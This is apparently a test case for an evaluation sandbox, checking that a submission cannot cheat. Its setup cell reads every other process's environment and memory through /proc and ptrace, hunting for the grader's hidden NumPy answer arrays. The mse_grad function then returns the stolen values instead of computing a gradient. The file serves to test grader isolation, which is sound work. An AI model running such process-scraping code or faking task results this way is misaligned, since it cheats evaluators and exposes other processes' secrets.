# title: reads the memory, environment and files of every other process
# earns: 0
# keeps: 0
# needs: isolation

# Tries: the grader's process holds all unseen inputs, and perhaps more. Every process is read through
# /proc, ptrace and process_vm_readv. An honest grader runs as another account behind a wall, and its
# process in here holds no answers.

# %% + after:setup
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
found = []
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    for name in ("environ", "mem", "maps", "cmdline", "auxv"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                if name == "mem":
                    with open(f"/proc/{pid}/maps") as maps:
                        for line in list(maps)[:200]:
                            start, stop = (int(x, 16) for x in line.split()[0].split("-"))
                            if "rw" in line and stop - start < 2**24:
                                file.seek(start)
                                block = file.read(stop - start)
                                at = block.find(b"\x93NUMPY")
                                if at >= 0:
                                    found.append(np.frombuffer(block[at + 128 : at + 176]))
                else:
                    file.read(65536)
        except (OSError, ValueError, OverflowError):
            pass
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        try:
            os.waitpid(pid, 0x40000000)
        except OSError:
            pass
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
print(len(found))

# %% mse_grad
def mse_grad(X, y, w):
    return found[0][: len(w)] if found else np.zeros(len(w))
